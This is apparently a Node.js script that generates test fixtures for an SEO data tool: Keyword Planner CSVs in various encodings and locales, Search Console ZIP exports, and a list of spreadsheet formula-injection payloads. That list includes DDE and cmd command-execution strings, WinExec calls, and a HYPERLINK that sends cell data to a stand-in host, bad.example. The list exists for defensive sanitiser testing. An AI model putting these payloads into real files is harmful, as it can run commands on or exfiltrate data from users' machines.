// @ts-check
// Writes the test data files that are awkward to write by hand: the Keyword Planner downloads (UTF-16LE with a BOM,
// UTF-8 with a BOM), the Search Console ZIP (built from the gsc-export folder) and the formula-injection payloads (some
// start with a tab or a carriage return). The output is committed; run `node infra/test/data/generate.mjs` after
// changing this file or the gsc-export folder. See README.md here for what each file holds.
import { zipSync } from 'fflate';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = fileURLToPath(new URL('.', import.meta.url));

/** UTF-16LE with its BOM, as Keyword Planner's default download. */
const utf16le = (/** @type {string} */ text) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
/** UTF-8 with its BOM, as a spreadsheet saves a CSV. */
const utf8bom = (/** @type {string} */ text) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(text, 'utf8')]);

const fixedColumns = ['Keyword', 'Currency', 'Avg. monthly searches', 'Three month change', 'YoY change', 'Competition', 'Competition (indexed value)',
  'Top of page bid (low range)', 'Top of page bid (high range)', 'Ad impression share', 'Organic impression share', 'Organic average position', 'In account?', 'In plan?'];
const monthColumns = (/** @type {string[]} */ months) => months.map((month) => `Searches: ${month}`);
const empty = (/** @type {number} */ count) => Array.from({ length: count }, () => '');

// Twelve months, Sep 2025 … Aug 2026: the rows land on 2026-08-01.
const yearToAugust = ['Sep 2025', 'Oct 2025', 'Nov 2025', 'Dec 2025', 'Jan 2026', 'Feb 2026', 'Mar 2026', 'Apr 2026', 'May 2026', 'Jun 2026', 'Jul 2026', 'Aug 2026'];

/**
 * keyword-stats.csv: the download as Keyword Planner gives it. Title and date-range lines, tab-separated, monthly
 * columns, a trailing "Concept" column, empty cells, 'Unknown' competition, ' --' changes, a quoted cell with a comma.
 */
function plannerWithTitles() {
  const header = [...fixedColumns, ...monthColumns(yearToAugust), 'Concept: Bread type'];
  /** @type {(string | number)[][]} */
  const rows = [
    ['sourdough starter', 'USD', 74000, '0%', '22%', 'Medium', 41, 0.38, 1.12, ...empty(5), 60500, 60500, 74000, 74000, 90500, 90500, 74000, 74000, 60500, 60500, 74000, 90500, 'Sourdough'],
    ['rye bread', 'USD', 33100, '-18%', '0%', 'Low', 9, 0.21, 0.77, ...empty(5), 40500, 40500, 33100, 33100, 27100, 27100, 27100, 27100, 33100, 33100, 40500, 33100, 'Rye'],
    ['pumpernickel', 'USD', 12100, '0%', '0%', 'Low', 5, 0.19, 0.61, ...empty(5), 12100, 12100, 14800, 18100, 12100, 9900, 9900, 9900, 12100, 12100, 12100, 12100, 'Rye'],
    ['wedding cake tasting', 'USD', 1300, '22%', '50%', 'High', 88, 1.46, 4.02, ...empty(5), 880, 880, 720, 880, 1300, 1600, 1900, 1900, 1600, 1300, 1300, 1300, ''],
    ['bäckerei in der nähe', 'USD', 5400, '0%', '0%', 'Medium', 36, 0.9, 2.3, ...empty(5), 5400, 5400, 6600, 6600, 4400, 4400, 5400, 5400, 5400, 5400, 5400, 5400, ''],
    // No bids: no CPC.
    ['levain', 'USD', 1900, '0%', '-18%', 'Low', 3, '', '', ...empty(5), 1900, 1900, 1600, 1600, 1900, 1900, 2400, 1900, 1900, 1900, 1600, 1900, 'Sourdough'],
    ['"bread, rye or spelt"', 'USD', 10, '0%', '0%', 'Unknown', '', '', '', ...empty(5), 0, 10, 0, 10, 10, 0, 0, 0, 10, 0, 10, 20, '"Rye, Spelt"'],
    ['spelt flour', 'USD', 8100, '0%', '-18%', 'Low', 14, 0.25, 0.9, ...empty(5), 8100, 8100, 9900, 9900, 8100, 6600, 6600, 6600, 8100, 8100, 8100, 8100, 'Spelt'],
    // Too few searches: no numbers at all (Keyword Planner's ' --' for the changes).
    ['sourdough discard pancakes', 'USD', '', ' --', ' --', 'Unknown', ...empty(8), ...empty(12), 'Sourdough'],
  ];
  const lines = ['Keyword Stats 2026-09-14 at 09_14_55', '"September 1, 2025 - August 31, 2026"', header.join('\t'), ...rows.map((row) => row.join('\t'))];
  return utf16le(`${lines.join('\n')}\n`);
}

/** keyword-stats-no-title.csv: header on line 1, no monthly columns (the date comes from the user), CRLF. */
function plannerWithoutTitles() {
  const rows = [
    ['croissant recipe', 'USD', 49500, '0%', '0%', 'Low', 6, 0.12, 0.58, ...empty(5)],
    ['hot cross buns', 'USD', 22200, '900%', '0%', 'Low', 11, 0.2, 0.74, ...empty(5)],
    ['gluten free bread', 'USD', 27100, '0%', '22%', 'Medium', 52, 0.47, 1.61, ...empty(5)],
    ['bakery near me', 'USD', 1220000, '0%', '0%', 'High', 100, 0.87, 3.11, ...empty(5)],
  ];
  const lines = [fixedColumns.join('\t'), ...rows.map((row) => row.join('\t'))];
  return utf16le(`${lines.join('\r\n')}\r\n`);
}

// Twelve months, Nov 2025 … Oct 2026: the rows land on 2026-10-01.
const yearToOctober = ['Nov 2025', 'Dec 2025', 'Jan 2026', 'Feb 2026', 'Mar 2026', 'Apr 2026', 'May 2026', 'Jun 2026', 'Jul 2026', 'Aug 2026', 'Sep 2026', 'Oct 2026'];

/**
 * keyword-stats-comma.csv: the comma-separated UTF-8 variant (Keyword Planner's CSV as a spreadsheet saves it):
 * title lines, monthly columns, a volume written with a thousands separator in quotes, one row priced in euros
 * (no CPC: the warehouse keeps US dollars).
 */
function plannerCommaSeparated() {
  const quote = (/** @type {string | number} */ value) => (/[",\n]/.test(String(value)) ? `"${String(value).replace(/"/g, '""')}"` : String(value));
  const header = [...fixedColumns, ...monthColumns(yearToOctober)];
  /** @type {(string | number)[][]} */
  const rows = [
    ['focaccia recipe', 'USD', '1,300', '0%', '0%', 'Low', 4, 0.1, 0.45, ...empty(5), 1000, 1300, 1300, 1300, 1600, 1600, 1300, 1300, 1300, 1000, 1000, 1300],
    ['cinnamon buns', 'USD', 40500, '22%', '0%', 'Low', 8, 0.15, 0.65, ...empty(5), 49500, 60500, 40500, 33100, 33100, 33100, 33100, 33100, 33100, 40500, 40500, 49500],
    ['pain au chocolat', 'EUR', 18100, '0%', '0%', 'Low', 7, 0.2, 0.8, ...empty(5), 18100, 18100, 18100, 18100, 18100, 18100, 18100, 18100, 18100, 18100, 18100, 18100],
  ];
  const lines = ['Keyword Stats 2026-11-02 at 16_40_03', 'November 1, 2025 - October 31, 2026', header.map(quote).join(','), ...rows.map((row) => row.map(quote).join(','))];
  return utf8bom(`${lines.join('\r\n')}\r\n`);
}

/**
 * keyword-stats-comma-no-title.csv: a comma-separated copy whose header is its first line (as a spreadsheet saves
 * the download without its title lines): UTF-8 without a BOM, LF, monthly columns Jan … Dec 2026, quoted keywords
 * with commas, a keyword without bids (no CPC) and one with an empty volume (unknown, not 0).
 */
function plannerCommaWithoutTitles() {
  const quote = (/** @type {string | number} */ value) => (/[",\n]/.test(String(value)) ? `"${String(value).replace(/"/g, '""')}"` : String(value));
  const year2026 = ['Jan 2026', 'Feb 2026', 'Mar 2026', 'Apr 2026', 'May 2026', 'Jun 2026', 'Jul 2026', 'Aug 2026', 'Sep 2026', 'Oct 2026', 'Nov 2026', 'Dec 2026'];
  const header = [...fixedColumns, ...monthColumns(year2026)];
  /** @type {(string | number)[][]} */
  const rows = [
    ['baguette', 'USD', '14,800', '0%', '0%', 'Low', 12, 0.3, 0.9, ...empty(5), 12100, 12100, 14800, 14800, 14800, 14800, 14800, 14800, 14800, 14800, 18100, 22200],
    ['bread, rye or spelt', 'USD', 20, '0%', '0%', 'Low', 2, '', '', ...empty(5), 10, 20, 20, 20, 20, 20, 20, 20, 20, 20, 30, 30],
    ['"artisan" bread, sliced', 'USD', 2900, '0%', '-18%', 'Medium', 44, 0.55, 1.45, ...empty(5), 2400, 2400, 2900, 2900, 2900, 2900, 2900, 2900, 2900, 2900, 3600, 3600],
    ['stollen near me', 'USD', '', ' --', ' --', 'Unknown', ...empty(8), ...empty(12)],
  ];
  const lines = [header.map(quote).join(','), ...rows.map((row) => row.map(quote).join(','))];
  return Buffer.from(`${lines.join('\n')}\n`, 'utf8');
}

/** UTF-16BE with its BOM. */
const utf16be = (/** @type {string} */ text) => {
  const bytes = Buffer.from(text, 'utf16le');
  for (let index = 0; index < bytes.length; index += 2) [bytes[index], bytes[index + 1]] = [bytes[index + 1] ?? 0, bytes[index] ?? 0];
  return Buffer.concat([Buffer.from([0xfe, 0xff]), bytes]);
};

/**
 * keyword-stats-titles-no-months.csv: title and date-range lines but no monthly columns (the rows land on the last
 * month of the title's range, 2026-03-01), UTF-16BE with BOM, tab-separated, CRLF.
 */
function plannerTitlesWithoutMonths() {
  const rows = [
    ['panettone', 'USD', 90500, '0%', '0%', 'Medium', 31, 0.4, 1.3, ...empty(5)],
    ['brioche buns', 'USD', 8100, '0%', '22%', 'Low', 10, 0.22, 0.64, ...empty(5)],
    ['bagel shop', 'USD', 33100, '0%', '0%', 'High', 79, 1.1, 3.5, ...empty(5)],
  ];
  const lines = ['Keyword Stats 2026-04-02 at 10_01_12', '"April 1, 2025 - March 31, 2026"', fixedColumns.join('\t'), ...rows.map((row) => row.join('\t'))];
  return utf16be(`${lines.join('\r\n')}\r\n`);
}

/**
 * keyword-stats-de.csv: a download with German headers and German number style (issue 19): UTF-16LE with BOM,
 * tab-separated; a German date-range title ("1. Oktober 2025 - 30. September 2026": the rows land on 2026-09-01, the
 * form asks for no month); no monthly columns; volumes with '.' between thousands ("12.100", "1.900"), one unknown
 * ("-"); euros (no CPC).
 */
function plannerGerman() {
  const header = ['Keyword', 'Währung', 'Durchschnittliche Suchanfragen pro Monat', 'Wettbewerb', 'Wettbewerb (indexierter Wert)'];
  const rows = [
    ['sauerteigbrot backen', 'EUR', '12.100', 'Hoch', 78],
    ['dinkelbrot rezept', 'EUR', '1.900', 'Mittel', 45],
    ['roggenmischbrot', 'EUR', 880, 'Niedrig', 12],
    // Too few searches: unknown volume and competition, never 0.
    ['brotbackkurs pankow', 'EUR', '-', 'Unbekannt', ''],
  ];
  const lines = ['Keyword-Statistiken 2026-10-04 um 08_15_02', '1. Oktober 2025 - 30. September 2026', header.join('\t'), ...rows.map((row) => row.join('\t'))];
  return utf16le(`${lines.join('\n')}\n`);
}

// Twelve months, Oct 2025 … Sep 2026: the rows land on 2026-09-01.
const yearToSeptember = ['Oct 2025', 'Nov 2025', 'Dec 2025', 'Jan 2026', 'Feb 2026', 'Mar 2026', 'Apr 2026', 'May 2026', 'Jun 2026', 'Jul 2026', 'Aug 2026', 'Sep 2026'];

/**
 * keyword-stats-semicolon-decimal-comma.csv: the download as a spreadsheet in a German locale saves it (issue 19):
 * UTF-8 with BOM, semicolon-separated, CRLF, title lines, English headers with monthly columns; thousands written with
 * '.' ("1.900", "12.100"), bids with a decimal comma ("0,45"); one keyword with one blank month (its history keeps the
 * other months, that month unknown).
 */
function plannerSemicolonDecimalComma() {
  const header = [...fixedColumns, ...monthColumns(yearToSeptember)];
  const rows = [
    ['oven thermometer', 'USD', '1.900', '0%', '22%', 'Medium', 33, '0,45', '1,20', ...empty(5),
      '1.600', '1.600', '2.400', '1.900', '1.600', '1.600', '1.900', '1.900', '1.900', '1.900', '2.400', '1.900'],
    ['proofing basket', 'USD', '12.100', '0%', '0%', 'Low', 18, '0,38', '0,96', ...empty(5),
      '9.900', '12.100', '14.800', '', '12.100', '12.100', '9.900', '12.100', '12.100', '12.100', '14.800', '12.100'],
    ['dough scraper', 'USD', 720, '0%', '0%', 'Low', 7, '0,2', '0,55', ...empty(5), 590, 720, 880, 720, 720, 590, 720, 720, 720, 720, 880, 720],
  ];
  const lines = ['Keyword Stats 2026-10-04 at 08_15_02', 'October 1, 2025 - September 30, 2026', header.join(';'), ...rows.map((row) => row.join(';'))];
  return utf8bom(`${lines.join('\r\n')}\r\n`);
}

/**
 * Formula-injection payloads, one a line: what a spreadsheet would run if a cell started with them (=, +, -, @, a
 * tab, a carriage return, full-width signs, leading spaces), DDE and web-fetching functions, and a few harmless
 * look-alikes (plain numbers, text with a sign inside) that must come out unchanged.
 */
const payloads = [
  '=2+5', '=SUM(2,3)', '=SUM(B2:B9)', '=AVERAGE(1;2)', '+3+4', '-3+4', '-2*2', '+SUM(1,1)', '@SUM(4,4)', '@A1',
  '=1+2+cmd|\' /C notepad\'!Z9', '=cmd|\'/C whoami\'!A2', '=cmd|\'/c dir\'!B1', '+cmd|\'/c echo hi\'!A1', '-cmd|\'/c echo hi\'!A1',
  '@cmd|\'/c echo hi\'!A1', '=DDE("cmd";"/C echo";"!B2")', '@DDE("cmd";"/C echo";"!B2")', '+DDE("cmd";"/C echo";"!B2")',
  '-DDE("cmd";"/C echo";"!B2")', 'DDE("cmd";"/C echo";"!B2")', '=HYPERLINK("https://bad.example/steal?d="&A1,"Open")',
  '@HYPERLINK("https://bad.example","Open")', '+HYPERLINK("https://bad.example","Open")', '-HYPERLINK("https://bad.example","Open")',
  '=IMPORTXML("https://bad.example/x","//p")', '=IMPORTHTML("https://bad.example/t","table",1)', '=IMPORTDATA("https://bad.example/d.csv")',
  '=IMPORTRANGE("https://docs.example/sheet","A1:Z99")', '=IMPORTFEED("https://bad.example/rss")', '=IMAGE("https://bad.example/p.png")',
  '=WEBSERVICE("https://bad.example/ping")', '=ENCODEURL(A1)', '=INDIRECT("A"&1)', '=IF(1=1,"yes","no")', '=IFERROR(1/0,"x")',
  '=CONCATENATE("a","b")', '=CHAR(61)&"1+1"', '=REGISTER("kernel32","WinExec")', '=EXEC("notepad")',
  '\t=3+3', '\t+3+3', '\t-3+3', '\t@SUM(3,3)', '\r=4+4', '\r@SUM(4,4)',
  ' =5+5', '   +5+5', '\u00a0=6+6', '\uff1d7+7', '\uff0b7+7', '\uff207', '\uff0d7+7',
  '=', '+', '-', '@',
  // Look-alikes that stay as they are: numbers, and signs that do not start the cell.
  '-42', '+7', '3.5e2', 'price = 2+2', 'email@bad.example', "'=already quoted",
];

const gscFolder = join(here, 'gsc-export');
const gscZip = zipSync(
  Object.fromEntries(readdirSync(gscFolder).sort().map((name) => [name, [new Uint8Array(readFileSync(join(gscFolder, name))), { mtime: new Date('2026-10-01T08:00:00Z') }]])),
);

/**
 * gsc-six-months/: a Search Console export of crumb-and-kiln.example.org over six months, 1 April – 30 September 2026,
 * with the daily table (Dates.csv) whose clicks climb to a July peak and fall again, so a spread by the daily table
 * and an even spread differ. Queries.csv and Pages.csv each add up to the daily table's totals (an export without
 * anonymised queries), so a month's clicks of the queries match the daily table's month.
 */
function gscSixMonths() {
  const monthBase = { '04': 20, '05': 30, '06': 45, '07': 60, '08': 40, '09': 25 };
  /** @type {{ day: string, clicks: number, impressions: number, position: number }[]} */
  const days = [];
  for (let time = Date.UTC(2026, 3, 1); time <= Date.UTC(2026, 8, 30); time += 86_400_000) {
    const day = new Date(time).toISOString().slice(0, 10);
    const date = Number(day.slice(8));
    const clicks = monthBase[/** @type {keyof typeof monthBase} */ (day.slice(5, 7))] + (date % 5);
    days.push({ day, clicks, impressions: clicks * 25 + date * 3, position: 8 + (date % 10) / 10 });
  }
  const percent = (/** @type {number} */ clicks, /** @type {number} */ impressions) => `${impressions ? Math.round((10000 * clicks) / impressions) / 100 : 0}%`;
  const totalClicks = days.reduce((sum, day) => sum + day.clicks, 0);
  const totalImpressions = days.reduce((sum, day) => sum + day.impressions, 0);
  /** Shares of the totals, the last one taking what is left: the table adds up exactly to the daily table. */
  const shared = (/** @type {number[]} */ shares, /** @type {number} */ total) => {
    const parts = shares.map((share) => Math.floor(total * share));
    parts[parts.length - 1] = total - parts.slice(0, -1).reduce((a, b) => a + b, 0);
    return parts;
  };
  const quote = (/** @type {string} */ text) => (/[",\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);
  const queries = [
    ['crumb and kiln', 0.46, 0.08, 1.1],
    ['crumb and kiln bakery', 0.2, 0.05, 1.3],
    ['wood fired bread', 0.12, 0.25, 6.4],
    ['how do you keep a wood oven at "bread heat"\nall day long?', 0.08, 0.2, 9.6],
    ['kiln baked, stone ground', 0.07, 0.12, 4.2],
    ['bread oven temperature', 0.05, 0.18, 11.5],
    ['crumb and kiln opening hours', 0.02, 0.02, 1],
    ['is rye bread\ngood for you', 0, 0.1, 17.8],
  ];
  const queryClicks = shared(queries.map(([, share]) => /** @type {number} */ (share)), totalClicks);
  const queryImpressions = shared(queries.map(([, , share]) => /** @type {number} */ (share)), totalImpressions);
  const queriesCsv = ['Top queries,Clicks,Impressions,CTR,Position', ...queries.map(([query, , , position], index) =>
    [quote(/** @type {string} */ (query)), queryClicks[index], queryImpressions[index], percent(queryClicks[index] ?? 0, queryImpressions[index] ?? 0), position].join(','))];
  const pages = [['https://crumb-and-kiln.example.org/', 0.6, 0.2, 1.4], ['https://crumb-and-kiln.example.org/bread/', 0.25, 0.3, 5.1],
    ['https://crumb-and-kiln.example.org/journal/wood-oven/', 0.1, 0.35, 9.2], ['https://crumb-and-kiln.example.org/visit/', 0.05, 0.15, 3.3]];
  const pageClicks = shared(pages.map(([, share]) => /** @type {number} */ (share)), totalClicks);
  const pageImpressions = shared(pages.map(([, , share]) => /** @type {number} */ (share)), totalImpressions);
  const pagesCsv = ['Top pages,Clicks,Impressions,CTR,Position', ...pages.map(([url, , , position], index) =>
    [url, pageClicks[index], pageImpressions[index], percent(pageClicks[index] ?? 0, pageImpressions[index] ?? 0), position].join(','))];
  const datesCsv = ['Date,Clicks,Impressions,CTR,Position', ...days.map((day) => [day.day, day.clicks, day.impressions, percent(day.clicks, day.impressions), day.position].join(','))];
  const filtersCsv = ['Filter,Value', 'Search type,Web', 'Date,"Apr 1, 2026-Sep 30, 2026"'];
  return { 'Queries.csv': queriesCsv, 'Pages.csv': pagesCsv, 'Dates.csv': datesCsv, 'Filters.csv': filtersCsv };
}

const zipOf = (/** @type {Record<string, Uint8Array>} */ files) =>
  zipSync(Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, [bytes, { mtime: new Date('2026-10-01T08:00:00Z') }]])));
const sixMonths = Object.fromEntries(Object.entries(gscSixMonths()).map(([name, lines]) => [name, new Uint8Array(Buffer.from(`${lines.join('\n')}\n`))]));
mkdirSync(join(here, 'gsc-six-months'), { recursive: true });
for (const [name, bytes] of Object.entries(sixMonths)) writeFileSync(join(here, 'gsc-six-months', name), bytes);
writeFileSync(join(here, 'gsc-six-months.zip'), zipOf(sixMonths));
const { 'Dates.csv': _daily, ...withoutDaily } = sixMonths;
writeFileSync(join(here, 'gsc-six-months-no-daily.zip'), zipOf(withoutDaily));

writeFileSync(join(here, 'keyword-planner', 'keyword-stats.csv'), plannerWithTitles());
writeFileSync(join(here, 'keyword-planner', 'keyword-stats-no-title.csv'), plannerWithoutTitles());
writeFileSync(join(here, 'keyword-planner', 'keyword-stats-comma.csv'), plannerCommaSeparated());
writeFileSync(join(here, 'keyword-planner', 'keyword-stats-comma-no-title.csv'), plannerCommaWithoutTitles());
writeFileSync(join(here, 'keyword-planner', 'keyword-stats-titles-no-months.csv'), plannerTitlesWithoutMonths());
writeFileSync(join(here, 'keyword-planner', 'keyword-stats-de.csv'), plannerGerman());
writeFileSync(join(here, 'keyword-planner', 'keyword-stats-semicolon-decimal-comma.csv'), plannerSemicolonDecimalComma());
writeFileSync(join(here, 'gsc-export.zip'), gscZip);
writeFileSync(join(here, 'security', 'formula-injection.txt'), `${payloads.join('\n')}\n`);
